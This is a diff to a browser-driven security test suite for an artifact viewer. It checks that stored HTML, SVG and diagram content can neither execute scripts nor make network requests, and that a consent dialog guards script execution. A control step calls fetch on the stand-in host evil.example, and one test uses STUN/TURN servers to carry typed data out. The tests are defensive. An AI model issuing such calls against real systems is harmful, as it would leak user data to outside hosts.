@@ -1,9 +1,9 @@
-// Stored content against the views: nothing runs, nothing leaves.
+// Attacks by stored content: no script runs, no request is sent.
 
 import assert from "node:assert/strict";
 import { setTimeout as delay } from "node:timers/promises";
 import type { Kind } from "../../../supabase/functions/mcp/artifacts/artifact.ts";
-import { shownTitle } from "../../../supabase/functions/mcp/views/shared/plain_text.ts";
+import { displayTitle } from "../../../supabase/functions/mcp/views/shared/plain_text.ts";
 import { CORPUS, TITLES } from "./corpus.ts";
 import { openHost, pageRead, show, type Shown } from "./shown.ts";
 import { clear, DOMAIN, type Home } from "./listener.ts";
@@ -11,7 +11,7 @@ import type { Stage } from "./stage.ts";
 
 const TIME = "2026-01-01T00:00:00+00:00";
 
-/** A result as `artifact.view` gives it; the corpus need not fill a database first. */
+/** A result of `artifact.view`, made without a database. */
 export function resultOf(kind: Kind, content: string, title: string) {
   const artifact = {
     id: "00000000-0000-4000-8000-000000000000",
@@ -51,9 +51,9 @@ export async function attack({ browser, origin, home }: Stage): Promise<string> 
   return `${tried} attacks by content and title: 0 executions, 0 connections; ${leaking}; ${waiting}`;
 }
 
-/** What runs and what leaves would have been noticed. */
+/** Control: an executed script and a sent request are detected. */
 async function expectToBeSeen(shown: Shown, home: Home): Promise<void> {
-  // deno-lint-ignore no-console -- the sign by which the attacks would be known
+  // deno-lint-ignore no-console -- the attacks are detected by this output
   await shown.page.evaluate(() => console.log("EXECUTED by the host"));
   await shown.page.evaluate(() => fetch("http://evil.example/").catch(() => {}));
   assert.deepEqual(shown.executions.splice(0), ["EXECUTED by the host"]);
@@ -65,12 +65,12 @@ async function expectToBeSeen(shown: Shown, home: Home): Promise<void> {
 async function attempt(shown: Shown, kind: Kind, content: string, title: string): Promise<void> {
   const call = { name: "artifact.view", arguments: {} };
   await show(shown, call, resultOf(kind, content, title));
-  assert.equal(await shown.view.locator("header h1").textContent(), shownTitle(title));
+  assert.equal(await shown.view.locator("header h1").textContent(), displayTitle(title));
   if (kind === "mermaid") {
     await shown.view.locator(".diagram .problem, .diagram iframe[style]").first().waitFor();
   }
   if (kind === "html" || kind === "svg") await pageRead(shown);
-  // Links are clicked, since some attacks wait for that.
+  // Some attacks wait for a click on a link.
   for (const link of await shown.view.locator("main a[role=link]").all()) {
     await link.click({ timeout: 1_000 }).catch(() => {});
     await shown.view.getByRole("button", { name: "Cancel" }).click({ timeout: 300 }).catch(
@@ -81,7 +81,7 @@ async function attempt(shown: Shown, kind: Kind, content: string, title: string)
   if (await source.count() > 0) await source.click();
 }
 
-/** What no policy holds back once a script runs: the dialog warns of it before. */
+/** Requests that no policy blocks once a script runs; the dialog warns about them. */
 async function scriptsThatWait(shown: Shown, home: Home): Promise<string> {
   const servers = `{ urls: "stun:127.0.0.1:${home.port}" }, { urls: "turn:127.0.0.1:${home.port}",
     username: "what was typed", credential: "x" }`;
@@ -101,28 +101,28 @@ async function scriptsThatWait(shown: Shown, home: Home): Promise<string> {
     const html = `<p id="ran">no</p><script>${code}</script>`;
     await show(shown, { name: "artifact.view", arguments: {} }, resultOf("html", html, "Scripts"));
     const run = view.getByRole("button", { name: "Run scripts" });
-    const asked = view.getByRole("dialog");
+    const dialog = view.getByRole("dialog");
     const hears = async () => {
       for (let i = 0; i < 40 && home.connections + home.datagrams === 0; i++) await delay(50);
       return home.connections + home.datagrams > 0;
     };
     await run.click();
-    await asked.getByText("to anyone on the internet").waitFor();
-    await asked.getByRole("button", { name: "Cancel" }).click();
+    await dialog.getByText("to anyone on the internet").waitFor();
+    await dialog.getByRole("button", { name: "Cancel" }).click();
     assert.equal(await hears(), false, `${name}: nothing before a user agrees`);
     await run.click();
-    await asked.getByRole("button", { name: "Run scripts" }).click();
+    await dialog.getByRole("button", { name: "Run scripts" }).click();
     assert.equal(await hears(), true, `${name}: the warning is true`);
     await show(shown, { name: "artifact.view", arguments: {} }, resultOf("text", "x", "After"));
-    await delay(1_000); // a browser sends some datagrams again
+    await delay(1_000); // browsers retransmit some datagrams
     clear(home);
   }
   return `${Object.keys(tries).length} scripts that can send wait for the user`;
 }
 
 /**
- * Once a user has let them run, scripts run; these reach neither the view nor the network. That a frame
- * is led away is refused when the browser has connected already; it then sends no request.
+ * Scripts that the user allowed run, but reach neither the view nor the network. A navigation of the frame is
+ * refused only after the browser has connected; no request is sent.
  */
 async function scriptsThatCallHome(shown: Shown, home: Home): Promise<string> {
   const tries = [
@@ -147,7 +147,7 @@ async function scriptsThatCallHome(shown: Shown, home: Home): Promise<string> {
     await show(shown, { name: "artifact.view", arguments: {} }, resultOf("html", html, "Scripts"));
     await shown.view.getByRole("button", { name: "Run scripts" }).click();
     await shown.view.getByRole("dialog").getByRole("button", { name: "Run scripts" }).click();
-    // One that navigates away is gone, and has gone nowhere.
+    // A frame that navigates away is gone without having reached its target.
     await shown.view.frameLocator("iframe.frame").locator("#ran").getByText("yes")
       .waitFor({ timeout: 1_500 }).then(() => ran++, () => {});
     assert.deepEqual([shown.executions, home.requests], [[], 0], code);
